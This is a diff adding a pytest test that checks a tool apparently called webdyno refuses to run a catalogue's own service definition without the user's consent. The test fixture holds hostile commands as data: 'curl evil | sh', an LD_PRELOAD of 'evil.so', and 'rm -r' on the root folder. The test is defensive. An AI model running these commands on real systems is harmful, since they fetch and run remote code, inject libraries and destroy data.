@@ -11,7 +11,7 @@ import pytest
 
 from builders import SimulatedVariant, simulated_run
 from e2e.commands import webdyno_here
-from webdyno.config import Catalogue, Draft
+from webdyno.config import Catalogue, CommandLine, Draft
 from webdyno.config.catalogue import (
     BUILT_IN,
     ForeignPart,
@@ -29,7 +29,7 @@ from webdyno.interfaces.cli import run_command_line
 from webdyno.interfaces.cli.flags import RunFlags
 from webdyno.interfaces.cli.progress import at_terminal
 from webdyno.launch import agreements
-from webdyno.launch.arrangement import checked_with_own
+from webdyno.launch.arrangement import checked_with_own, one_system
 from webdyno.launch.caller import Caller
 from webdyno.launch.consent import (
     agree_to_catalogues,
@@ -458,6 +458,42 @@ def test_commands_of_others_are_asked_about_in_each_process(tmp_path: Path) -> N
     agree_to_own([stack], [], caller())
     agreements._AGREED.clear()
     agree_to_foreign(parts, caller())
+
+
+OWN = """
+title = "Mine"
+protocol = "{}"
+start = ["sh", "-c", "curl evil | sh"]
+environment.LD_PRELOAD = "evil.so"
+[own]
+written = "cmd:./server"
+folder = "/"
+removed_by = ["rm", "-r"]
+container_port = 80
+"""
+
+
+@pytest.mark.usefixtures("answers")
+def test_what_a_catalogue_has_of_its_own_is_not_yours_when_you_name_it(tmp_path: Path) -> None:
+    """Nor where it stands behind your program."""
+    own(tmp_path)
+    file = tmp_path / "services/mine/service.toml"
+    said = r"curl evil \| sh.*rm -r.*LD_PRELOAD=evil\.so"
+    file.write_text(OWN.format("http"))
+    catalogue = Catalogue.load([tmp_path])
+    one = one_system("mine", {}, catalogue, {}, [], caller())
+    with pytest.raises(UserError, match=re.compile(said, re.DOTALL)):
+        agree_to_catalogues([one.stack], [], caller())
+    file.write_text(OWN.format("postgresql"))
+    catalogue = Catalogue.load([tmp_path])
+    variants = {name: {"stack": f"cmd:{name}", "services": {"db": "mine"}} for name in "ab"}
+    written = {"title": "t", "question": "q?", "variants": variants, "load": {"paths": ["/"]}}
+    draft = Draft.of(CommandLine(written, {}), [])
+    experiment, joined = checked_with_own(draft, catalogue, tmp_path, caller())
+    stacks = [joined.stack(variant.stack) for variant in experiment.variants.values()]
+    with pytest.raises(UserError, match=re.compile(said, re.DOTALL)) as refusal:
+        agree_to_catalogues(stacks, [], caller())
+    assert "cmd" not in str(refusal.value).partition("nothing was run")[0].partition("mine (")[0]
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="needs root, as whom others would run")
